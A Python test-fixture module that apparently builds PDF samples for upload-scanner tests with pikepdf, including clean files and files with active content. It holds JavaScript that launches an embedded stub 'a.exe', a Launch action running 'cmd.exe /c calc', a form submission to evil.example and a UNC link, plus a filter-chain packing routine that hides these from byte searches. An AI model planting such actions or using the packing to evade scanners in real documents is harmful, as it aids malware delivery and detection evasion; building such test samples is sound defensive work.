"""PDF samples for the upload tests, built with pikepdf: clean documents, documents with active content, and
the same documents with every dictionary packed in an object stream behind a chain of filters.

`hidden()` writes what pikepdf cannot (qpdf always compresses object streams once with Flate): a PDF 1.5
file whose cross-reference stream points into an object stream encoded as the caller says, e.g.
`[/FlateDecode /FlateDecode]` or `/ASCIIHexDecode`. A byte search, or a single inflate, sees no name of
the active content; a PDF reader (and qpdf) decodes the chain and finds it.
"""

from __future__ import annotations

import binascii
import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

JS = String("app.alert('x'); this.exportDataObject({cName: 'a.exe', nLaunch: 2});")


def clean(pages: int = 3) -> bytes:
    """A text PDF of `pages` pages ("Trang 1" …), with a font and an outline: what a scanner or Word makes."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        text = f"BT /F1 14 Tf 72 770 Td (Trang {number} - Giay xac nhan) Tj ET"
        page.Contents = pdf.make_stream(text.encode())
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Trang 1", 0))
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])  # "open at page 1": a destination, not a script
    return saved(pdf)


def lossless_scan(pages: int = 2) -> bytes:
    """A4 pages scanned at 300 dpi in RGB and stored losslessly (as img2pdf does with PNG scans): each image
    is 26 MB of pixels in a Flate stream of a few hundred kilobytes."""
    pdf = pikepdf.new()
    width, height = 2480, 3508
    row = bytes([250, 250, 245]) * width  # paper
    ink = bytes([250, 250, 245]) * 300 + bytes([20, 20, 30]) * (width - 600) + bytes([250, 250, 245]) * 300
    for number in range(pages):
        line = 400 + number * 40  # a "line of text" every 500 rows
        pixels = b"".join(ink if line < y % 500 < line + 20 else row for y in range(height))
        image = pdf.make_stream(
            zlib.compress(pixels, 6),
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=width,
            Height=height,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=Name.FlateDecode,
        )
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(XObject=Dictionary(Im0=image))
        page.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return saved(pdf)


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _action(pdf: pikepdf.Pdf, **entries) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(**entries))


def _annotation(pdf: pikepdf.Pdf, **entries) -> None:
    page = pdf.pages[0]
    page.Annots = pdf.make_indirect(
        Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([72, 600, 300, 640]), **entries))])
    )


def _file_spec(pdf: pikepdf.Pdf) -> pikepdf.Object:
    executable = pdf.make_stream(b"MZ\x90\x00" + b"\x00" * 60)
    executable.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("a.exe"), UF=String("a.exe"), EF=Dictionary(F=executable))
    )


def _form(pdf: pikepdf.Pdf, xfa: bool = False) -> None:
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("ho_ten"),
            Rect=Array([72, 600, 300, 620]),
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].Annots = Array([field])
    form = Dictionary(Fields=Array([field]))
    if xfa:
        form.XFA = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    pdf.Root.AcroForm = pdf.make_indirect(form)


def _names_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _action(pdf, S=Name.JavaScript, JS=JS)]))
    )


def _page_additional_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=_action(pdf, S=Name.JavaScript, JS=JS))


def _attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["a.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60, filename="a.exe")


# name -> what it adds to a one-page document
ACTIVE = {
    "openaction-javascript": lambda pdf: setattr(
        pdf.Root, "OpenAction", _action(pdf, S=Name.JavaScript, JS=JS)
    ),
    "annotation-javascript": lambda pdf: _annotation(
        pdf, Subtype=Name.Link, A=_action(pdf, S=Name.JavaScript, JS=JS)
    ),
    "page-additional-action": _page_additional_action,
    "names-javascript-tree": _names_javascript,
    "launch": lambda pdf: setattr(
        pdf.Root,
        "OpenAction",
        _action(
            pdf, S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))
        ),
    ),
    "import-data": lambda pdf: _annotation(
        pdf, Subtype=Name.Link, A=_action(pdf, S=Name.ImportData, F=String("data.fdf"))
    ),
    "submit-form": lambda pdf: _annotation(
        pdf,
        Subtype=Name.Link,
        A=_action(
            pdf, S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))
        ),
    ),
    "goto-remote-file": lambda pdf: _annotation(
        pdf,
        Subtype=Name.Link,
        A=_action(pdf, S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0, Name.Fit])),
    ),
    "goto-embedded": lambda pdf: _annotation(
        pdf,
        Subtype=Name.Link,
        A=_action(pdf, S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf")), D=Array([0, Name.Fit])),
    ),
    "embedded-file": _attachment,
    "file-attachment-annotation": lambda pdf: _annotation(
        pdf, Subtype=Name.FileAttachment, FS=_file_spec(pdf)
    ),
    "acroform": _form,
    "xfa-form": lambda pdf: _form(pdf, xfa=True),
    "richmedia": lambda pdf: _annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
    "3d": lambda pdf: _annotation(pdf, Subtype=Name("/3D"), **{"/3DD": pdf.make_stream(b"U3D")}),
}


def active(kind: str) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    pdf.pages[0].Contents = pdf.make_stream(b"BT /F1 12 Tf 72 770 Td (Giay to) Tj ET")
    ACTIVE[kind](pdf)
    return saved(pdf)


FILTERS = {
    "flate-twice": (b"[/FlateDecode /FlateDecode]", lambda data: zlib.compress(zlib.compress(data))),
    "ascii-hex": (b"/ASCIIHexDecode", lambda data: binascii.hexlify(data) + b">"),
    "ascii-hex-then-flate": (
        b"[/ASCIIHexDecode /FlateDecode]",
        lambda data: binascii.hexlify(zlib.compress(data)) + b">",
    ),
}


def hidden(raw: bytes, packing: str) -> bytes:
    """`raw` re-written with every dictionary in one object stream encoded as FILTERS[packing] says."""
    filters, encode = FILTERS[packing]
    with pikepdf.open(io.BytesIO(raw)) as pdf:
        plain = {
            o.objgen[0]: o
            for o in pdf.objects
            if isinstance(o, pikepdf.Stream) and o.get("/Type") not in (Name.ObjStm, Name.XRef)
        }
        packed = {
            o.objgen[0]: o.unparse(resolved=True)
            for o in pdf.objects
            if o is not None and not isinstance(o, pikepdf.Stream)
        }
        root = pdf.trailer.Root.objgen[0]
        out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        offsets = {}
        for number, stream in sorted(plain.items()):
            data = stream.read_raw_bytes()
            stream_dict = Dictionary({key: stream.stream_dict[key] for key in stream.stream_dict.keys()})
            stream_dict.Length = len(data)
            if stream_dict.get("/Type") == Name.EmbeddedFile:
                del stream_dict.Type  # optional (PDF 32000-1 §7.11.4): an attacker leaves it out
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (number, stream_dict.unparse(), data)
    holder, xref = max([*plain, *packed]) + 1, max([*plain, *packed]) + 2
    header, body = [], b""
    for number, syntax in packed.items():
        header.append(b"%d %d" % (number, len(body)))
        body += syntax + b"\n"
    head = b" ".join(header) + b"\n"
    data = encode(head + body)
    offsets[holder] = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n"
    ) % (holder, len(packed), len(head), filters, len(data), data)
    rows = b""
    index = {number: position for position, number in enumerate(packed)}
    for number in range(xref + 1):
        if number in index:
            rows += struct.pack(">BIH", 2, holder, index[number])
        elif number in offsets or number == xref:
            rows += struct.pack(">BIH", 1, len(out) if number == xref else offsets[number], 0)
        else:
            rows += struct.pack(">BIH", 0, 0, 65535 if number == 0 else 0)
    start = len(out)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n"
    ) % (xref, xref + 1, root, len(rows), rows)
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)
